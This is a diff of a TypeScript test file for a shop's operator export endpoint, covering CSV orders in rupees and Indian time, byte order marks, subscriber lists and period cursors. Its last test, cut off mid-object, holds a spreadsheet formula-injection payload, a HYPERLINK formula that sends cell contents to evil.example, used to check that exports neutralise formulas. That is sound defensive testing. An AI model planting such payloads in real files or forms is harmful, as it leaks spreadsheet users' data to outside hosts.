@@ -1,10 +1,10 @@
-/** Exports: what the files hold, and that they are safe to open. */
+/** Exports: the content of the files, and that they are safe to open. */
 import { beforeAll, beforeEach, describe, expect, test } from 'vitest';
 import { orders, refunds, subscribers } from '#db/schema/index.ts';
 import { password } from '../support/accounts.ts';
 import { operatorsOnly, operatorWithPassword } from '../support/desk.ts';
-import { askExport, insertOrder, lastMoment, tableOf } from '../support/exports.ts';
-import { fillShelf, serum, toner } from '../support/orders.ts';
+import { insertOrder, lastMoment, requestExport, tableOf } from '../support/exports.ts';
+import { refillStock, serum, toner } from '../support/orders.ts';
 import { countRows } from '../support/rows.ts';
 import { type Person, useShop } from '../support/shop.ts';
 
@@ -15,16 +15,16 @@ beforeAll(async () => {
   operator = await operatorWithPassword(shop);
 });
 beforeEach(async () => {
-  await fillShelf(shop.db);
+  await refillStock(shop.db);
   await shop.db.write.delete(orders);
   await shop.db.write.delete(subscribers);
 });
 
-const ask = (over: object = {}) => askExport(operator, over);
+const ask = (over: object = {}) => requestExport(operator, over);
 
 test('POST /api/desk/export is for operators', () => operatorsOnly(shop, 'POST', '/api/desk/export'));
 
-test('a file of orders: rupees, Indian time, and what spreadsheets must leave alone', async () => {
+test('a file of orders: rupees, Indian time, and text that spreadsheets must not convert', async () => {
   const id = await insertOrder(shop.db, {}, { city: 'बेंगलुरु' });
   await shop.db.write
     .insert(refunds)
@@ -68,7 +68,7 @@ test('a file of orders: rupees, Indian time, and what spreadsheets must leave al
   ]);
 });
 
-test('the bytes begin with the mark by which Excel knows UTF-8, and every row ends with CRLF', async () => {
+test('the file begins with the byte order mark that Excel needs, and every row ends with CRLF', async () => {
   await insertOrder(shop.db);
   const response = await fetch(`${shop.stack.url}/api/desk/export`, {
     method: 'POST',
@@ -106,7 +106,7 @@ test('a row for each line, with its share of the discount', async () => {
   expect(id).toBeTruthy();
 });
 
-test('newsletter: who gets it now, by when they subscribed', async () => {
+test('newsletter: current subscribers by time of subscription', async () => {
   const rows: [string, string, number | null][] = [
     ['late@example.in', '2026-11-21T00:00:00+05:30', null],
     ['early@example.in', '2026-11-20T23:59:59+05:30', null],
@@ -154,14 +154,14 @@ describe('a period', () => {
     expect([status, headers.get('export-total'), tableOf(text).length]).toEqual([200, String(count), count]);
   });
 
-  test('a place before it, sent by hand, brings nothing from before it', async () => {
+  test('a forged cursor from before the period returns nothing from before it', async () => {
     await insertOrder(shop.db);
     const { headers } = await ask({ from: '2026-11-21', after: '0.x' });
     expect(headers.get('export-count')).toBe('0');
   });
 });
 
-test('what shoppers typed is text in the file, and the whole of it', async () => {
+test('shoppers’ text is complete in the file, and never a formula', async () => {
   const hostile = {
     firstName: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
     lastName: 'Rao',
